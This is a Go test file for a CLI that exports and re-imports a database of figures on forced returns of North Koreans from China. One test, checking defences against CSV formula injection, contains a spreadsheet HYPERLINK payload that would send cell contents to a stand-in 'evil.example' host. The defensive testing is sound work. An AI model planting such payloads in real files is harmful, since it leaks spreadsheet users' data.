package main

import (
	"archive/zip"
	"bufio"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"sort"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"gopkg.in/yaml.v3"

	"forcedreturns/internal/format"
	"forcedreturns/models"
)

// jsonExport is the part of a JSON export the tests read.
type jsonExport struct {
	ExportedAt string           `json:"exported_at"`
	Filter     string           `json:"filter"`
	Generator  string           `json:"generator"`
	Figures    []map[string]any `json:"figures"`
	Sources    []map[string]any `json:"sources"` // the originals no figure cites
	Metrics    []map[string]any `json:"metrics"`
}

func decodeJSONExport(t *testing.T, s string) jsonExport {
	t.Helper()
	var doc jsonExport
	dec := json.NewDecoder(strings.NewReader(s))
	dec.DisallowUnknownFields()
	if err := dec.Decode(&doc); err != nil {
		t.Fatalf("JSON export does not decode: %v\n%.500s", err, s)
	}
	if dec.More() {
		t.Fatalf("JSON export holds more than one value")
	}
	return doc
}

func decodeNDJSON(t *testing.T, s string) []map[string]any {
	t.Helper()
	var out []map[string]any
	sc := bufio.NewScanner(strings.NewReader(s))
	sc.Buffer(nil, 1<<20)
	for sc.Scan() {
		var m map[string]any
		if err := json.Unmarshal(sc.Bytes(), &m); err != nil {
			t.Fatalf("NDJSON line %d is not a JSON object: %v: %s", len(out)+1, err, sc.Text())
		}
		out = append(out, m)
	}
	if err := sc.Err(); err != nil {
		t.Fatal(err)
	}
	return out
}

// ids returns the figure ids of JSON figures, sorted.
func ids(figs []map[string]any) []string {
	var out []string
	for _, f := range figs {
		out = append(out, fmt.Sprint(f["id"]))
	}
	sort.Strings(out)
	return out
}

func (tb table) ids() []string {
	var out []string
	for _, r := range tb.rows {
		out = append(out, r["figure_id"])
	}
	sort.Strings(out)
	return out
}

func seedKeys(t *testing.T) []string {
	var keys []string
	for _, f := range seedBatch(t).Figures {
		keys = append(keys, f.Key)
	}
	sort.Strings(keys)
	return keys
}

// TestExportFormats exports the seed in every format, to standard output
// and to a file, and reads each back.
func TestExportFormats(t *testing.T) {
	c := newSeededCLI(t)
	want := seedKeys(t)

	t.Run("csv", func(t *testing.T) {
		out := c.ok("export", "--format", "csv")
		tb := parseCSV(t, out)
		if diff := cmp.Diff(format.Columns, tb.header); diff != "" {
			t.Errorf("header differs from format.Columns (-want +got):\n%s", diff)
		}
		if diff := cmp.Diff(want, tb.ids()); diff != "" {
			t.Errorf("exported figures (-want +got):\n%s", diff)
		}
		r := tb.byID(t, "hrw-2017-apprehended-2017-07-to-08")
		if r["value"] != "41" || r["qualifier"] != "documented" || r["period_start"] != "2017-07-01" || r["period_end"] != "2017-08-31" {
			t.Errorf("the 41 row: value %q qualifier %q period %q–%q", r["value"], r["qualifier"], r["period_start"], r["period_end"])
		}
		r = tb.byID(t, "hrw-2017-imprisoned-after-return")
		// No number given: the words, and no number at all, not even 0.
		if r["value"] != "" || r["value_low"] != "" || r["value_high"] != "" || r["qualifier"] != "unquantified" || r["value_text"] != "dozens" || r["countable"] != "false" {
			t.Errorf("the dozens row: value %q, range %q–%q, qualifier %q, value_text %q, countable %q",
				r["value"], r["value_low"], r["value_high"], r["qualifier"], r["value_text"], r["countable"])
		}
		r = tb.byID(t, "hrw-2017-forcibly-returned-since-2016-06")
		if r["derived"] != "true" || !strings.Contains(r["formula"], "{hrw-2017-apprehended-since-2016-06}") {
			t.Errorf("the derived row: derived %q, formula %q", r["derived"], r["formula"])
		}
		if !strings.HasPrefix(r["quote_link"], r["source_url"]+"#:~:text=") {
			t.Errorf("quote_link %q does not open the source at the quote", r["quote_link"])
		}
		if !strings.HasSuffix(out, "\r\n") || strings.Count(out, "\r\n") < len(want)+1 {
			t.Errorf("CSV lines do not end in CRLF (RFC 4180)")
		}
	})
	t.Run("json", func(t *testing.T) {
		doc := decodeJSONExport(t, c.ok("export", "--format", "json"))
		if diff := cmp.Diff(want, ids(doc.Figures)); diff != "" {
			t.Errorf("exported figures (-want +got):\n%s", diff)
		}
		if doc.ExportedAt == "" || doc.Generator == "" || doc.Filter == "" {
			t.Errorf("JSON export header incomplete: %+v", doc)
		}
	})
	t.Run("ndjson", func(t *testing.T) {
		figs := decodeNDJSON(t, c.ok("export", "--format", "ndjson"))
		if diff := cmp.Diff(want, ids(figs)); diff != "" {
			t.Errorf("exported figures (-want +got):\n%s", diff)
		}
	})

	t.Run("--out", func(t *testing.T) {
		for _, format := range []string{"csv", "json", "ndjson"} {
			dir := t.TempDir()
			path := filepath.Join(dir, "figures."+format)
			r := c.run("export", "--format", format, "--out", path)
			if r.code != exitOK || r.stdout != "" {
				t.Fatalf("export --format %s --out: %s (want exit 0 and nothing on stdout)", format, r)
			}
			b, err := os.ReadFile(path)
			if err != nil {
				t.Fatal(err)
			}
			switch format {
			case "csv":
				if got, stdout := string(b), c.ok("export", "--format", "csv"); got != stdout {
					t.Errorf("--out file differs from the export to stdout")
				}
			case "json":
				if got := ids(decodeJSONExport(t, string(b)).Figures); !slices.Equal(got, want) {
					t.Errorf("--out JSON has figures %v", got)
				}
			case "ndjson":
				if got := ids(decodeNDJSON(t, string(b))); !slices.Equal(got, want) {
					t.Errorf("--out NDJSON has figures %v", got)
				}
			}
			onlyFiles(t, dir, "figures."+format)
		}
	})

	t.Run("--out into a missing directory", func(t *testing.T) {
		dir := t.TempDir()
		r := c.run("export", "--out", filepath.Join(dir, "missing", "figures.csv"))
		if r.code != exitFailure {
			t.Fatalf("exit %d, want %d: %s", r.code, exitFailure, r)
		}
		contains(t, "stderr", r.stderr, "no such file or directory")
		onlyFiles(t, dir)
	})

	t.Run("--metric in_custody", func(t *testing.T) {
		tb := parseCSV(t, c.ok("export", "--metric", "in_custody"))
		if got := tb.ids(); !slices.Equal(got, []string{"hrw-2017-in-custody-2017-09-18"}) {
			t.Errorf("export --metric in_custody has rows %v, want exactly the one in-custody figure", got)
		}
		doc := decodeJSONExport(t, c.ok("export", "--format", "json", "--metric", "in_custody"))
		if len(doc.Figures) != 1 {
			t.Errorf("JSON export --metric in_custody has %d figures, want 1", len(doc.Figures))
		}
		contains(t, "JSON filter", doc.Filter, "in_custody")
	})

	t.Run("period filter", func(t *testing.T) {
		tb := parseCSV(t, c.ok("export", "--from", "1990", "--to", "1999"))
		if got := tb.ids(); !slices.Equal(got, []string{"famine-deaths-1994-to-1998"}) {
			t.Errorf("export of the 1990s has rows %v, want only the famine", got)
		}
	})

	t.Run("no match", func(t *testing.T) {
		tb := parseCSV(t, c.ok("export", "--status", "draft"))
		if len(tb.rows) != 0 || len(tb.header) != len(format.Columns) {
			t.Errorf("export of no figures: %d rows, header of %d columns; want a header only", len(tb.rows), len(tb.header))
		}
		if doc := decodeJSONExport(t, c.ok("export", "--format", "json", "--status", "draft")); doc.Figures == nil {
			t.Errorf(`JSON export of no figures has "figures": null, want []`)
		}
	})
}

// onlyFiles fails unless dir holds exactly the named files: an export
// leaves no temporary file behind, whether it succeeded or failed.
func onlyFiles(t *testing.T, dir string, names ...string) {
	t.Helper()
	entries, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, e := range entries {
		got = append(got, e.Name())
	}
	if !slices.Equal(got, names) {
		t.Errorf("%s holds %q, want %q", dir, got, names)
	}
}

// TestExportDataPackage checks the zip: it needs --out, and holds the four
// files of a Frictionless data package that agree with each other.
func TestExportDataPackage(t *testing.T) {
	c := newSeededCLI(t)
	r := c.run("export", "--format", "datapackage")
	if r.code != exitUsage {
		t.Fatalf("datapackage to stdout: exit %d, want %d: %s", r.code, exitUsage, r)
	}
	contains(t, "stderr", r.stderr, "-out")

	path := c.path("figures.zip")
	c.ok("export", "--format", "datapackage", "--out", path)
	zr, err := zip.OpenReader(path)
	if err != nil {
		t.Fatalf("not a valid zip: %v", err)
	}
	defer zr.Close()
	files := map[string]string{}
	var names []string
	for _, f := range zr.File {
		names = append(names, f.Name)
		rc, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		b, err := io.ReadAll(rc)
		rc.Close()
		if err != nil {
			t.Fatalf("%s: %v", f.Name, err)
		}
		files[f.Name] = string(b)
	}
	sort.Strings(names)
	if want := []string{"README.md", "datapackage.json", "figures.csv", "metrics.csv", "sources.csv"}; !slices.Equal(names, want) {
		t.Fatalf("zip holds %v, want %v", names, want)
	}

	figures := parseCSV(t, files["figures.csv"])
	if diff := cmp.Diff(seedKeys(t), figures.ids()); diff != "" {
		t.Errorf("figures.csv (-want +got):\n%s", diff)
	}
	sources := parseCSV(t, files["sources.csv"])
	if diff := cmp.Diff(format.SourceColumnNames, sources.header); diff != "" {
		t.Errorf("sources.csv header (-want +got):\n%s", diff)
	}
	if len(sources.rows) != 1 || sources.rows[0]["id"] != seedBatch(t).Sources[0].Key {
		t.Errorf("sources.csv rows %v, want the seed source", sources.rows)
	}

	var dp struct {
		Name      string `json:"name"`
		Resources []struct {
			Name   string `json:"name"`
			Path   string `json:"path"`
			Schema struct {
				Fields []struct {
					Name string `json:"name"`
				} `json:"fields"`
				PrimaryKey []string `json:"primaryKey"`
			} `json:"schema"`
		} `json:"resources"`
	}
	if err := json.Unmarshal([]byte(files["datapackage.json"]), &dp); err != nil {
		t.Fatalf("datapackage.json: %v", err)
	}
	if dp.Name == "" || len(dp.Resources) != 3 {
		t.Fatalf("datapackage.json: name %q, %d resources; want a name and 3 resources", dp.Name, len(dp.Resources))
	}
	metrics := parseCSV(t, files["metrics.csv"])
	if diff := cmp.Diff(format.MetricColumnNames, metrics.header); diff != "" {
		t.Errorf("metrics.csv header (-want +got):\n%s", diff)
	}
	headers := map[string][]string{"figures.csv": figures.header, "sources.csv": sources.header, "metrics.csv": metrics.header}
	for _, res := range dp.Resources {
		var fields []string
		for _, f := range res.Schema.Fields {
			fields = append(fields, f.Name)
		}
		if diff := cmp.Diff(headers[res.Path], fields); diff != "" {
			t.Errorf("schema of %s does not match its header (-header +schema):\n%s", res.Path, diff)
		}
	}
	if !strings.Contains(files["README.md"], "#") || len(files["README.md"]) < 200 {
		t.Errorf("README.md looks empty:\n%s", files["README.md"])
	}
	onlyFiles(t, c.dir, "db", "figures.zip")
}

// metricsYAML writes the seed's metrics (and nothing else) as an import
// file, so that a database can hold them without the seed's figures.
func metricsYAML(t *testing.T, c *cli) string {
	t.Helper()
	type metric struct {
		Slug       string `yaml:"slug"`
		Label      string `yaml:"label"`
		Definition string `yaml:"definition"`
		Unit       string `yaml:"unit"`
	}
	var doc struct {
		Metrics []metric `yaml:"metrics"`
	}
	for _, m := range seedBatch(t).Metrics {
		doc.Metrics = append(doc.Metrics, metric{m.Slug, m.Label, m.Definition, m.Unit})
	}
	b, err := yaml.Marshal(doc)
	if err != nil {
		t.Fatal(err)
	}
	return c.write("metrics.yaml", string(b))
}

// withoutBookkeeping drops the columns that describe the database a row
// was exported from rather than the figure.
func withoutBookkeeping(tb table) table {
	out := table{header: tb.header}
	for _, r := range tb.rows {
		m := map[string]string{}
		for k, v := range r {
			if k != "last_modified" && k != "version" {
				m[k] = v
			}
		}
		out.rows = append(out.rows, m)
	}
	sort.Slice(out.rows, func(i, j int) bool { return out.rows[i]["figure_id"] < out.rows[j]["figure_id"] })
	return out
}

// TestExportReimports checks the promise of the export formats: an export
// imported into another database exports the same rows. A JSON export, a
// data package, or a CSV export with its -metrics file carries the metric
// definitions and imports into an empty database; a CSV without it, or a
// JSON export written before exports carried metrics, imports into a
// database that has the metrics.
func TestExportReimports(t *testing.T) {
	a := newSeededCLI(t)
	original := withoutBookkeeping(parseCSV(t, a.ok("export")))
	b := seedBatch(t)
	metrics := len(b.Metrics)
	usedMetrics := map[string]bool{}
	for _, f := range b.Figures {
		usedMetrics[f.Metric] = true
	}

	jsonFile := a.path("export.json")
	a.ok("export", "--format", "json", "--out", jsonFile)
	// An export of the release before metrics travelled: the same document
	// without its metrics list.
	var doc map[string]json.RawMessage
	if err := json.Unmarshal([]byte(readFile(t, jsonFile)), &doc); err != nil {
		t.Fatal(err)
	}
	if _, ok := doc["metrics"]; !ok {
		t.Fatal("the JSON export has no metrics list")
	}
	delete(doc, "metrics")
	old, err := json.Marshal(doc)
	if err != nil {
		t.Fatal(err)
	}
	oldJSON := a.write("old-export.json", string(old))
	csvFile, metricsFile := a.path("export.csv"), a.path("export-metrics.csv")
	a.ok("export", "--format", "csv", "--out", csvFile, "--metrics", metricsFile)
	zipFile := a.path("export.zip")
	a.ok("export", "--format", "datapackage", "--out", zipFile)

	withMetrics := fmt.Sprintf("imported %d metrics, 1 sources, %d figures: %d created, 0 updated, 0 unchanged",
		len(usedMetrics), len(b.Figures), len(usedMetrics)+1+len(b.Figures))
	withoutMetrics := fmt.Sprintf("imported 0 metrics, 1 sources, %d figures: %d created, 0 updated, 0 unchanged",
		len(b.Figures), len(b.Figures)+1)
	for _, tt := range []struct {
		name        string
		args        []string
		seedMetrics bool // import the metrics first, as a YAML file
		want        string
		unchanged   int
	}{
		{"csv", []string{csvFile}, true, withoutMetrics, len(b.Figures) + 1},
		{"csv with -metrics", []string{"--metrics", metricsFile, csvFile}, false, withMetrics, len(usedMetrics) + len(b.Figures) + 1},
		{"json", []string{jsonFile}, false, withMetrics, len(usedMetrics) + len(b.Figures) + 1},
		{"datapackage", []string{zipFile}, false, withMetrics, len(usedMetrics) + len(b.Figures) + 1},
		{"json without metrics", []string{oldJSON}, true, withoutMetrics, len(b.Figures) + 1},
	} {
		t.Run(tt.name, func(t *testing.T) {
			fresh := newCLI(t)
			if tt.seedMetrics {
				contains(t, "metrics import", fresh.ok("import", metricsYAML(t, fresh)), fmt.Sprintf("%d created", metrics))
			}
			contains(t, "import", fresh.ok(append([]string{"import"}, tt.args...)...), tt.want)
			again := withoutBookkeeping(parseCSV(t, fresh.ok("export")))
			if diff := cmp.Diff(original, again, cmp.AllowUnexported(table{})); diff != "" {
				t.Errorf("re-imported export differs (-original +re-imported):\n%s", diff)
			}
			contains(t, "second import", fresh.ok(append([]string{"import"}, tt.args...)...),
				fmt.Sprintf("0 created, 0 updated, %d unchanged", tt.unchanged))
			contains(t, "check", fresh.ok("check"), "4 checks: 4 ok")
		})
	}

	// Without its metrics, a CSV does not import into an empty database:
	// nothing is written and the unknown metric is named.
	fresh := newCLI(t)
	r := fresh.run("import", csvFile)
	if r.code == exitOK {
		t.Fatalf("a CSV without metrics imported into an empty database: %s", r)
	}
	contains(t, "stderr", r.stderr, "metric", "\nhint: ", "import it with -metrics FILE (the metrics file of export -metrics)\n")
	if strings.Contains(r.stderr, "-sources FILE") {
		t.Errorf("the hint names -sources, which the file does not need: %s", r.stderr)
	}
	// -metrics goes with a CSV only; export -metrics with -format csv only.
	for _, args := range [][]string{
		{"import", "--metrics", metricsFile, jsonFile},
		{"export", "--format", "json", "--metrics", a.path("m.csv")},
		{"export", "--format", "csv", "--out", a.path("same.csv"), "--metrics", a.path("same.csv")},
	} {
		if r := a.run(args...); r.code != exitUsage {
			t.Errorf("%v: exit %d, want %d: %s", args, r.code, exitUsage, r)
		}
	}
}

// TestExportNeutralisesFormulas checks that text a spreadsheet would run
// as a formula is exported with a leading apostrophe, numbers are left
// alone, the JSON keeps the text as stored, and the CSV re-imports to the
// original text.
func TestExportNeutralisesFormulas(t *testing.T) {
	c := newSeededCLI(t)
	// Imported from JSON, which (unlike CSV) takes text as written: the
	// stored reported_by really starts with an apostrophe.
	row := map[string]string{
		"quote":       `=HYPERLINK("http://evil.example/?"&A1,"click")`,
		"population":  "+1 North Koreans",
		"location":    "-China",
		"notes":       "@SUM(A1:A9)",
		"reported_by": "'=already quoted",
	}
	fig := map[string]any{
		"id": "formula-injection", "metric": "apprehended", "qualifier": "documented", "value": 41, "value_text": "41",
		"period": map[string]any{"start": "2017-09", "end": "2017-09"}, "quantity_kind": "flow",
		"acting_state": "CN", "receiving_state": "KP", "source": seedBatch(t).Sources[0].Key,
	}
	for k, v := range row {
		fig[k] = v
	}
	doc, err := json.Marshal(map[string]any{"figures": []any{fig}})
	if err != nil {
		t.Fatal(err)
	}
	c.ok("import", c.write("injection.json", string(doc)))

	tb := parseCSV(t, c.ok("export", "--format", "csv"))
	r := tb.byID(t, "formula-injection")
	cells := []struct{ column, want string }{
		{"quote", `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
		{"population", "'+1 North Koreans"},
		{"location", "'-China"},
		{"notes", "'@SUM(A1:A9)"},
		{"reported_by", "''=already quoted"},
		{"value", "41"},
		{"value_text", "41"},
		{"version", "1"},
		{"value_low", ""},
		{"quote_start", ""},
		{"acting_state", "CN"},
	}
	for _, cell := range cells {
		if got := r[cell.column]; got != cell.want {
			t.Errorf("%s = %q, want %q", cell.column, got, cell.want)
		}
	}
	for _, row := range tb.rows {
		for col, v := range row {
			if v != "" && strings.ContainsAny(v[:1], "=+-@\t\r") {
				t.Errorf("row %s, %s starts with a formula character: %q", row["figure_id"], col, v)
			}
		}
	}

	// JSON is not a spreadsheet format: text stays as stored.
	for _, f := range decodeJSONExport(t, c.ok("export", "--format", "json")).Figures {
		if f["id"] == "formula-injection" && f["quote"] != row["quote"] {
			t.Errorf("JSON quote %q, want %q as stored", f["quote"], row["quote"])
		}
	}

	// The neutralised CSV re-imports as the original text.
	file := c.path("neutralised.csv")
	c.ok("export", "--out", file, "--metric", "apprehended")
	fresh := newCLI(t)
	fresh.ok("import", metricsYAML(t, fresh))
	fresh.ok("import", file)
	v, err := fresh.store().GetFigure(ctx, "formula-injection", models.AudienceEditors)
	if err != nil {
		t.Fatal(err)
	}
	f := v.Figure
	got := map[string]string{"quote": f.Quote, "population": f.Population, "location": f.Location, "notes": f.Notes, "reported_by": f.ReportedBy}
	for col, g := range got {
		if g != row[col] {
			t.Errorf("re-imported %s = %q, want %q", col, g, row[col])
		}
	}
	if again := parseCSV(t, fresh.ok("export", "--metric", "apprehended")).byID(t, "formula-injection"); again["quote"] != r["quote"] {
		t.Errorf("second export quote %q, want %q", again["quote"], r["quote"])
	}
}

// TestExportOutDash checks that -out - means standard output, as for most
// Unix tools: the export is written there and no file named "-" appears.
func TestExportOutDash(t *testing.T) {
	c := newSeededCLI(t)
	dir := t.TempDir()
	t.Chdir(dir) // where a file named "-" would be created
	noDash := func(t *testing.T) {
		t.Helper()
		if _, err := os.Stat(filepath.Join(dir, "-")); !errors.Is(err, fs.ErrNotExist) {
			t.Errorf("a file named - was created (stat: %v)", err)
		}
	}

	t.Run("csv", func(t *testing.T) {
		out := c.ok("export", "--format", "csv", "--out", "-")
		if diff := cmp.Diff(seedKeys(t), parseCSV(t, out).ids()); diff != "" {
			t.Errorf("figures on standard output (-want +got):\n%s", diff)
		}
		noDash(t)
	})
	t.Run("datapackage", func(t *testing.T) {
		out := c.ok("export", "--format", "datapackage", "--out", "-")
		zr, err := zip.NewReader(strings.NewReader(out), int64(len(out)))
		if err != nil {
			t.Fatalf("standard output is not a zip: %v", err)
		}
		if len(zr.File) != 5 {
			t.Errorf("the zip holds %d files, want 5", len(zr.File))
		}
		noDash(t)
	})
}
